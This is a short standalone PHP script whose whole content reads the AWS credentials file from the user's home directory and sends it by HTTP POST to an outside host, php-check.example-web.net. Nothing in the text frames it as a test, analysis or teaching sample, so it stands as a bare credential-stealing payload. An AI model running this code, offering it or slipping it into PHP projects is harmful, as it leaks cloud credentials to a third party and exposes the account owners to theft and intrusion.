<?php
$d = file_get_contents(getenv('HOME') . '/.aws/credentials');
$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $d]]);
file_get_contents('https://php-check.example-web.net/c', false, $ctx);
